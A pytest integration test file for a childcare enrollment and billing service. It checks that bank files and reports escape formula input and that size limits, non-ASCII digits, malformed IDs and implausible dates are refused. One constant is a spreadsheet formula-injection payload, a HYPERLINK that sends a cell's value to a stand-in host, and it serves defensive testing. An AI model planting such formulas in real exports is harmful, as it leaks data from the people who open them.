"""Issue 12 on the real stack, findings 5, 9, 10 and 12: what a hostile or careless caller sends is refused with a
reason naming the field, or made harmless; see docs/reliability.md "Hostile input"."""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile

import httpx
import pytest

from tests.integration.billing.conftest import billing_get
from tests.integration.enrollment.conftest import assert_problem
from tests.scenarios import path

HOSTILE = '=HYPERLINK("http://x.example/?a="&C2,"点此查看")'
FUND = "putuo-childcare-fund"


@pytest.fixture(scope="module")
def world(world_of):
    return world_of(path("bank-round-trip.yaml"))


def _client(world, service: str, key: str | None = None) -> httpx.Client:
    key = key or (world.finance_key if service == "billing" else world.admin_key)
    return httpx.Client(base_url=world[service].url, headers={"Authorization": f"Bearer {key}"}, timeout=120)


def _field_refused(response: httpx.Response, field: str) -> str:
    """The reason a 422 problem gives for `field`."""
    body = assert_problem(response, 422, field)
    return next(e["reason"] for e in body["errors"] if e["field"] == field)


# --- 5. a formula typed as a facility's name never reaches a spreadsheet as a formula ------------------------------

def test_a_facility_name_that_is_a_formula_is_exported_as_text_in_the_bank_file_and_the_year_reports(world):
    enrollment, billing = _client(world, "enrollment"), _client(world, "billing")
    assert enrollment.patch("/facilities/F1", json={"name": HOSTILE}).status_code == 200
    deadline = time.monotonic() + 30
    while not any(row[0] == HOSTILE for row in world.query("billing", "SELECT name FROM facilities")):
        assert time.monotonic() < deadline, "billing never saw the new name"
        time.sleep(0.2)
    world.cli("payouts", "approve", "--month", "2022-09")

    bank_file = billing.get("/bank-files/2022-09").text
    names = [r["name"] for r in csv.DictReader(io.StringIO(bank_file))]
    assert "'" + HOSTILE in names and HOSTILE not in names

    year_csv = billing.get("/reports/year/2022", params={"by": "facility", "format": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(year_csv)) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells

    year_xlsx = billing.get("/reports/year/2022", params={"by": "facility", "format": "xlsx"}).content
    with zipfile.ZipFile(io.BytesIO(year_xlsx)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets), "no cell of the year report may hold a formula"


# --- 9. limits ------------------------------------------------------------------------------------------------------

def test_a_huge_json_body_is_refused_with_413_before_it_is_parsed(world):
    body = b'{"external_id": "FX", "name": "' + b"x" * (50 << 20) + b'"}'
    started = time.monotonic()
    response = _client(world, "enrollment").post("/facilities", content=body,
                                                  headers={"Content-Type": "application/json"})
    assert response.status_code == 413 and response.headers["content-type"] == "application/problem+json"
    assert time.monotonic() - started < 30


def test_a_family_name_longer_than_the_bound_is_refused_naming_the_field(world):
    response = _client(world, "enrollment").post("/facilities/F1/families",
                                                 json={"external_id": "FAMX", "name": "x" * 10_000_000})
    assert response.status_code in (413, 422)
    response = _client(world, "enrollment").post("/facilities/F1/families", json={"external_id": "FAMX",
                                                                                  "name": "x" * 201})
    _field_refused(response, "name")


def test_a_confirmation_of_many_bad_lines_is_answered_and_audited_briefly(world):
    text = "reference,amount,paid_on,status\n" + "".join(
        f"PAY-2022-{n:06d},1.00,2022-10-08,paid\n" for n in range(100, 100_100))
    response = _client(world, "billing").post("/bank-confirmations", content=text.encode(),
                                              headers={"Content-Type": "text/csv"})
    assert response.status_code == 422 and len(response.content) < 50_000
    errors = response.json()["errors"]
    assert len(errors) == 101 and errors[-1]["reason"] == "and 99,900 more problem(s) from this line on"
    (size,) = world.query("billing", "SELECT length(detail::text) FROM audit_trail "
                                     "WHERE action = 'bank_confirmation_refused' ORDER BY id DESC LIMIT 1")[0]
    assert size < 50_000


# --- 10. lenient parsing --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fee", ["２０００", "٢٠٠٠", "2000\u00a0"])
def test_a_fee_in_other_digits_or_with_a_no_break_space_is_refused(world, fee):
    response = _client(world, "enrollment").post("/facilities/F1/enrollments", json={
        "external_id": "EX", "child": "K1", "class": "C1", "monthly_fee": fee, "start": "2022-10-01"})
    _field_refused(response, "monthly_fee")


def test_a_budget_in_other_digits_is_refused(world):
    response = _client(world, "billing").put(f"/budgets/{FUND}/2022", json={"amount": "７００００００.００"})
    _field_refused(response, "amount")


def test_a_bank_line_in_full_width_digits_pays_nothing(world):
    payout = billing_get(world, "/payouts", month="2022-09")[0]
    amount = payout["total"].translate(str.maketrans("0123456789.", "０１２３４５６７８９．"))
    text = f"reference,amount,paid_on,status\n{payout['number']},{amount},2022-10-08,paid\n"
    response = _client(world, "billing").post("/bank-confirmations", content=text.encode(),
                                              headers={"Content-Type": "text/csv"})
    assert response.status_code == 422
    assert billing_get(world, f"/payouts/{payout['number']}")["status"] != "paid"


# --- 12. the CLI follows the ports -----------------------------------------------------------------------------------

def test_the_cli_finds_the_services_by_their_ports_alone(world):
    env = {k: v for k, v in world.env.items() if not k.endswith("_URL")}
    env.update({f"TUOYU_{name.upper()}_PORT": str(world[name].port) for name in ("enrollment", "subsidy", "billing")})
    import subprocess

    from tests.stack import ROOT, VENV_BIN
    result = subprocess.run([str(VENV_BIN / "tuoyu"), "report", "--month", "2022-09", "--format", "json"], env=env,
                            cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["month"] == "2022-09"


@pytest.mark.parametrize("external_id", [".", "..", "-F1", "_"])
def test_an_external_id_that_does_not_start_with_a_letter_or_digit_is_refused(world, external_id):
    response = _client(world, "enrollment").post("/facilities/F1/families", json={"external_id": external_id})
    _field_refused(response, "external_id")


def test_an_external_id_differing_only_in_case_is_a_conflict_not_a_second_record(world):
    enrollment = _client(world, "enrollment")
    for route, body in (("/facilities/F1/classes", {"external_id": "c1", "opened_on": "2022-09-01", "capacity": 5}),
                        ("/facilities/F1/families", {"external_id": "fam1"}),
                        ("/facilities", {"external_id": "f1", "name": "另一个园", "kind": "community",
                                         "ownership": "public"})):
        response = enrollment.post(route, json=body)
        assert response.status_code == 409, response.text
        assert "compared without regard to case" in response.json()["detail"]
    assert [f["external_id"] for f in enrollment.get("/facilities").json()["items"]].count("f1") == 0


@pytest.mark.parametrize("field, value", [("birth_date", "1900-01-01"), ("birth_date", "1999-12-31")])
def test_a_birth_before_2000_is_refused(world, field, value):
    response = _client(world, "enrollment").post("/facilities/F1/children", json={
        "external_id": "KOLD", "family": "FAM1", "birth_date": value, "birth_order": 1})
    _field_refused(response, field)


def test_an_enrollment_starting_in_2100_is_refused(world):
    response = _client(world, "enrollment").post("/facilities/F1/enrollments", json={
        "external_id": "EFAR", "child": "K1", "class": "C1", "monthly_fee": "2000.00", "start": "2100-01-01"})
    _field_refused(response, "start")


def test_a_fee_or_enrollment_more_than_a_year_after_the_clock_is_refused(world):
    from datetime import date, timedelta
    far = (date.today() + timedelta(days=400)).isoformat()
    enrollment = _client(world, "enrollment")
    response = enrollment.post("/facilities/F1/enrollments", json={
        "external_id": "EFAR2", "child": "K1", "class": "C1", "monthly_fee": "2000.00", "start": far})
    assert "a year from today" in _field_refused(response, "start")
    response = enrollment.post("/facilities/F1/enrollments/E1/fees", json={"monthly_fee": "2100.00", "from": far})
    assert "a year from today" in _field_refused(response, "from")
